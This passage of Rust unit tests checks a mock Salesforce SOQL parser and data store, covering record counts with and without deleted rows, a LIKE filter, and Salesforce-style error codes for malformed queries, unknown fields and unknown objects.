        let all = parse("SELECT Id FROM Account").unwrap();
        assert_eq!(D.select(&all, false).len(), 98, "two of 100 are deleted");
        assert_eq!(D.select(&all, true).len(), 100, "queryAll includes deleted rows");
        let like = parse("SELECT Id FROM Account WHERE Name LIKE 'Smith%'").unwrap();
        assert_eq!(D.select(&like, false).len(), 8, "11, 22, .. 99 but 77 (a multiple of 7 gets a Chinese name)");
    }

    #[test]
    fn errors_read_like_salesforce() {
        let e = parse("SELECT Id FRM Account").unwrap_err();
        assert_eq!(e.error_code, "MALFORMED_QUERY");
        assert!(e.message.contains("unexpected token: 'Account'") || e.message.contains("unexpected token: 'FRM'"), "{}", e.message);
        let e = parse("SELECT Foo FROM Account").unwrap_err();
        assert_eq!(e.error_code, "INVALID_FIELD");
        assert!(e.message.contains("No such column 'Foo' on entity 'Account'"));
        assert_eq!(parse("SELECT Id FROM Nope").unwrap_err().error_code, "INVALID_TYPE");
        assert_eq!(parse("SELECT Id FROM Account LIMIT").unwrap_err().error_code, "MALFORMED_QUERY");
    }
}
